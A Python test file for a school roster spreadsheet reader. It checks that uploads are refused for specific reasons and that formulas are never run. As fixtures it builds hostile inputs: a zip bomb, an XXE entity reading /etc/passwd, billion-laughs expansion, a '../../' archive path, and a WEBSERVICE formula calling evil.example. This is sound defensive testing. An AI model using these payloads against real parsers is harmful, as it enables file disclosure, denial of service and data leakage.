"""A file that means harm, or is simply broken, is refused with a reason, quickly, and leaves nothing."""

import io
import os
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from xinqiao.register.people.roster.bounded import read_bounded
from xinqiao.register.people.roster.problems import UnreadableFile, Why

from .workbooks import HEADER, repacked, student, xlsx

SHEET = "xl/worksheets/sheet1.xml"
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def plain() -> bytes:
    return xlsx({"一年级": [HEADER, student()]})


def why(data: bytes) -> Why:
    with pytest.raises(UnreadableFile) as refused:
        read_bounded(data)
    return refused.value.why


def bomb() -> bytes:
    return repacked(plain(), {SHEET: b"<worksheet>" + b"0" * (180 * 1024 * 1024)})


def many_rows() -> bytes:
    row = '<row r="{0}"><c r="A{0}"><v>{0}</v></c></row>'
    rows = "".join(row.format(number) for number in range(1, 1_000_001))
    return repacked(plain(), {SHEET: f"<worksheet {NS}><sheetData>{rows}</sheetData></worksheet>".encode()})


def far_corners() -> bytes:
    cells = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return repacked(plain(), {SHEET: f"<worksheet {NS}><sheetData>{cells}</sheetData></worksheet>".encode()})


def with_entity(entity: str) -> bytes:
    head = f'<?xml version="1.0"?><!DOCTYPE x [{entity}]>'
    cell = '<row r="1"><c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row>'
    return repacked(plain(), {SHEET: f"{head}<worksheet {NS}><sheetData>{cell}</sheetData></worksheet>".encode()})


def wide_letters() -> bytes:
    document = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY b "c">]><worksheet/>'
    return repacked(plain(), {SHEET: document.encode("utf-16")})


def password_protected() -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1000 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 1000
    )


def zip_with_password() -> bytes:
    data = bytearray(plain())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := data.find(mark, at + 1)) != -1:
            flags = struct.unpack_from("<H", data, at + offset)[0]
            struct.pack_into("<H", data, at + offset, flags | 1)
    return bytes(data)


def word_document() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("word/document.xml", "<document/>")
    return packed.getvalue()


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        pytest.param(lambda: b"", Why.EMPTY, id="nothing"),
        pytest.param(lambda: b"\r\n\r\n", Why.EMPTY, id="blank lines"),
        pytest.param(bomb, Why.PACKED_TOO_TIGHTLY, id="zip bomb"),
        pytest.param(many_rows, Why.TOO_MANY_ROWS, id="a million rows"),
        pytest.param(lambda: with_entity('<!ENTITY b SYSTEM "file:///etc/passwd">'), Why.FOREIGN_ENTITIES, id="XXE"),
        pytest.param(
            lambda: with_entity('<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">'), Why.FOREIGN_ENTITIES, id="billion laughs"
        ),
        pytest.param(wide_letters, Why.FOREIGN_ENTITIES, id="entities in UTF-16"),
        pytest.param(
            lambda: repacked(plain(), {"../../evil.xml": b"<x/>"}), Why.ODD_ARCHIVE, id="path out of the archive"
        ),
        pytest.param(
            lambda: repacked(plain(), {f"x/{n}": b"" for n in range(3000)}), Why.ODD_ARCHIVE, id="3000 entries"
        ),
        pytest.param(lambda: plain()[:2000], Why.DAMAGED, id="truncated"),
        pytest.param(lambda: repacked(plain(), {SHEET: b"<worksheet><sheetData><row"}), Why.DAMAGED, id="broken XML"),
        pytest.param(password_protected, Why.PASSWORD, id="password"),
        pytest.param(zip_with_password, Why.PASSWORD, id="password on the archive"),
        pytest.param(
            lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 3000, Why.NOT_A_SPREADSHEET, id="old Word file"
        ),
        pytest.param(word_document, Why.NOT_A_SPREADSHEET, id="Word file"),
        pytest.param(
            lambda: b"<html><table><tr><td>1</td></tr></table></html>", Why.WEB_PAGE, id="web page called xls"
        ),
        pytest.param(lambda: b"%PDF-1.7 ...", Why.NOT_A_SPREADSHEET, id="PDF"),
        pytest.param(lambda: bytes(range(256)) * 40, Why.NOT_A_SPREADSHEET, id="random bytes"),
    ],
)
def test_each_is_refused_for_its_own_reason(make: Callable[[], bytes], reason: Why) -> None:
    assert why(make()) is reason


def test_two_cells_in_far_corners_are_refused_and_not_spread_out_in_memory() -> None:
    assert why(far_corners()) in {Why.TOO_HEAVY, Why.DAMAGED, Why.TOO_MANY_COLUMNS}


def test_more_than_the_limit_is_refused_before_it_is_read() -> None:
    assert why(b"a,b\n" * (13 * 1024 * 1024 + 1)) is Why.TOO_BIG


def test_a_million_lines_of_text_are_refused() -> None:
    assert why(b"1,2\n" * 1_000_000) is Why.TOO_MANY_ROWS


REFUSE_AND_SAY_HOW_MUCH = """
import resource, sys
from xinqiao.register.people.roster.bounded import read_bounded
try:
    read_bounded(sys.stdin.buffer.read())
except Exception as refusal:
    print(type(refusal).__name__, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
"""


def test_refusing_a_bomb_takes_little_memory() -> None:
    """In a small process of its own: a child starts with the memory of whoever forks it."""
    said = subprocess.run(
        [sys.executable, "-c", REFUSE_AND_SAY_HOW_MUCH],
        input=bomb(),
        capture_output=True,
        check=True,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), "DJANGO_SETTINGS_MODULE": "xinqiao.settings"},
    )

    refusal, kilobytes = said.stdout.split()
    assert refusal == b"UnreadableFile"
    assert int(kilobytes) < 200 * 1024


def test_the_reading_process_knows_no_secret_and_writes_no_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setenv("XINQIAO_DATABASE_PASSWORD_FILE", "/nowhere")
    read_bounded(plain())
    assert list(tmp_path.iterdir()) == []


def test_a_formula_is_read_as_the_value_it_had_and_never_run() -> None:
    cells = '<c r="A1" t="str"><f>WEBSERVICE("http://evil.example")</f><v>林</v></c><c r="B1"><f>1+1</f><v>3</v></c>'
    document = f'<worksheet {NS}><sheetData><row r="1">{cells}</row></sheetData></worksheet>'
    (sheet,) = read_bounded(repacked(plain(), {SHEET: document.encode()})).sheets
    assert sheet.rows == [["林", 3.0]]


def test_progress_is_heard_while_rows_come() -> None:
    heard: list[int] = []
    read_bounded(xlsx({"a": [HEADER, *(student(number=n) for n in range(1200))]}), heard.append)
    assert heard == sorted(heard)
    assert heard[-1] == 1201
